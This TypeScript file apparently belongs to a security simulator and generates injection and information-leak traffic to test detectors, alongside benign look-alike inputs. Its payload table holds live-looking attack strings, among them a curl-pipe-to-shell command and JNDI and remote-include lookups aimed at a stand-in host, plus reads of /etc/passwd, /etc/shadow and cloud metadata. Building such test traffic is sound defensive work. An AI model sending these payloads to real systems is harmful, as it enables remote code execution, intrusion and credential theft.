import { SECOND_US } from '../../daemon/model/time.ts'
import { operationOf } from '../estate/estate.ts'
import type { Script } from '../visits/script.ts'
import { type Attack, defineAttack } from './attack.ts'
import { alone, insider, outsider, ownRead, withToken } from './crew.ts'
import { jitter } from './guessing.ts'

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: that is what such payloads look like
/** Payloads, as they are passed around; `{n}` differs from try to try. */
const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
  sqli: [
    "x' OR {n}={n}--",
    '1 UNION SELECT username,password FROM users WHERE id>{n}--',
    "'; WAITFOR DELAY '0:0:{n}'--",
  ],
  nosqli: ['{"$ne":{n}}', '{"$where":"sleep({n})"}', "';return this.a=={n};var b='"],
  xss: ['<script>alert({n})</script>', '"><img src=x onerror=alert({n})>', "javascript:eval('x{n}')"],
  command: ['; cat /etc/passwd #{n}', '$(curl http://203.0.113.66/{n}|sh)', '| ping -c {n} 203.0.113.66'],
  code: ["__import__('os').system('id {n}')", '${T(java.lang.Runtime).getRuntime().exec("id {n}")}'],
  traversal: ['../../../../etc/passwd%00{n}', '..%2f..%2f..%2fetc%2fshadow{n}'],
  lfi: ['php://filter/convert.base64-encode/resource=index{n}', 'file:///proc/self/environ?{n}'],
  rfi: ['http://203.0.113.66/shell{n}.txt?', 'ftp://203.0.113.66/x{n}.php'],
  ssti: ['{{{n}*{n}}}', '${{n}*{n}}', '<%= {n} * {n} %>'],
  xxe: ['<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;{n}</a>'],
  jndi: ['${jndi:ldap://203.0.113.66:1389/a{n}}', '${${lower:j}ndi:rmi://203.0.113.66/{n}}'],
  ssrf: ['http://169.254.169.254/latest/meta-data/?{n}', 'http://0x7f000001:{n}/admin'],
  ldap: ['*)(uid=*))(|(uid=*{n}', 'admin)(&)){n}'],
  mail: ['a@b.example%0d%0aBcc: c{n}@d.example', 'x%0aSubject: {n}'],
  crlf: ['x%0d%0aSet-Cookie: admin={n}', '%0d%0aLocation: http://203.0.113.66/{n}'],
  deserialization: ['rO0ABXNyABdqYXZhLnV0aWwu{n}', 'O:8:"stdClass":{n}:{s:1:"a";i:1;}'],
  session_fixation: [
    'https://www.example/login;jsessionid=A{n}BC99',
    '<meta http-equiv="Set-Cookie" content="sid=fixed{n}">',
    "<script>document.cookie='session=fixed{n}'</script>",
  ],
  prototype: ['{"__proto__":{"isAdmin":{n}}}', '{"constructor":{"prototype":{"x":{n}}}}'],
}
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: that is what such payloads look like

interface Tries {
  readonly tries: number
  readonly everyUs: number
}

/** One attack for each class, in a search field and in the text of a post. */
export const INJECTIONS: readonly Attack[] = Object.entries(PAYLOADS).map(([kind, payloads]) =>
  defineAttack<Tries>({
    name: `injection.${kind}`,
    detector: `injection.${kind}`,
    summary: `payloads of the class ${kind} in a search field and in a body`,
    intensities: {
      blatant: { tries: 60, everyUs: 0.3 * SECOND_US },
      moderate: { tries: 12, everyUs: 10 * SECOND_US },
      stealthy: { tries: 2, everyUs: 120 * SECOND_US },
    },
    begin: (world, { tries, everyUs }, label) => {
      const caller = outsider(world, label)
      const search = operationOf(world.estate.services.catalogue, 'GET /search')
      const post = operationOf(world.estate.services.social, 'POST /posts')
      return alone(
        caller,
        (function* (): Script {
          for (let i = 0; i < tries; i++) {
            const payload = caller.random.pick(payloads).replaceAll('{n}', String(caller.random.between(2, 999)))
            if (caller.random.chance(0.6))
              caller.call(search, { query: `q=${encodeURIComponent(payload)}`, listed: [] })
            else caller.call(post, { body: JSON.stringify({ subject: payload, quantity: 1 }), status: 400 })
            yield jitter(caller, everyUs)
          }
        })(),
      )
    },
  }),
)

const HONEST = [
  "O'Brien & Sons",
  'how do I select all from a table where id = 1; and then drop it?',
  'echo "$HOME" | grep -v tmp && ls -la ../notes',
  '<b>bold</b> is not <script> but I wrote about <script> tags',
  '{{ name }} is how templates say it, 7*7 is 49',
  "it's 5 o'clock -- union meeting, select committee",
  'C:\\temp\\..\\notes.txt',
]

/** Trap: people who write about code, and people called O'Brien. */
export const honestCode = defineAttack<Tries>({
  name: 'twin.code_in_bodies',
  detector: null,
  summary: "developers post code and SQL, people called O'Brien search for themselves",
  intensities: {
    blatant: { tries: 80, everyUs: 5 * SECOND_US },
    moderate: { tries: 30, everyUs: 20 * SECOND_US },
    stealthy: { tries: 6, everyUs: 60 * SECOND_US },
  },
  begin: (world, { tries, everyUs }, label) => {
    const caller = insider(world, label)
    const post = operationOf(world.estate.services.social, 'POST /posts')
    const search = operationOf(world.estate.services.catalogue, 'GET /search')
    return alone(
      caller,
      withToken(
        caller,
        (function* (): Script {
          for (let i = 0; i < tries; i++) {
            const text = caller.random.pick(HONEST)
            if (caller.random.chance(0.3)) caller.call(search, { query: `q=${encodeURIComponent(text)}`, listed: [] })
            else caller.call(post, { body: JSON.stringify({ subject: text, quantity: i }) })
            yield jitter(caller, everyUs)
          }
        })(),
      ),
    )
  },
})

/** What an answer tells, with which status, as what. */
const SHOWN: Readonly<Record<string, readonly [status: number, type: string, answer: string]>> = {
  stack: [
    500,
    'application/json',
    '{"error":"TypeError: x is undefined\\n    at handler (/srv/app/src/orders.js:41:12)\\n    at next (/srv/app/node_modules/express/lib/router.js:174:3)"}',
  ],
  sql_error: [
    500,
    'application/json',
    '{"error":"ERROR: syntax error at or near \\"FROM\\" LINE 1: SELECT * FROM orders WHERE id = (SQLSTATE 42601)"}',
  ],
  // A server that hands out what it should have run.
  source: [
    200,
    'text/plain',
    "<?php\nrequire_once 'db.php';\n$sql = $pdo->query('SELECT * FROM orders WHERE id = ' . $id);\n",
  ],
  secret: [
    200,
    'application/json',
    '{"status":"ok","config":{"aws_access_key_id":"AKIAQ7N4TESTK3Y5LMZP","aws_secret_access_key":"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"}}',
  ],
  listing: [
    200,
    'text/html',
    '<html><title>Index of /backup</title><h1>Index of /backup</h1><a href="db.sql.gz">db.sql.gz</a></html>',
  ],
}

/** One attack for each way in which an answer tells too much. */
export const LEAKS: readonly Attack[] = Object.entries(SHOWN).map(([kind, [status, answerType, answer]]) =>
  defineAttack<Tries>({
    name: `leak.${kind}`,
    detector: `leak.${kind}`,
    summary: `answers that show what they should not: ${kind}`,
    intensities: {
      blatant: { tries: 60, everyUs: SECOND_US },
      moderate: { tries: 10, everyUs: 20 * SECOND_US },
      stealthy: { tries: 1, everyUs: SECOND_US },
    },
    begin: (world, { tries, everyUs }, label) => {
      const caller = insider(world, label)
      const operation = ownRead(world)
      return alone(
        caller,
        withToken(
          caller,
          (function* (): Script {
            for (let i = 0; i < tries; i++) {
              const objects = operation.resources.map((each) => caller.reachable(each))
              caller.call(operation, { objects, status, answer, answerType })
              yield jitter(caller, everyUs)
            }
          })(),
        ),
      )
    },
  }),
)
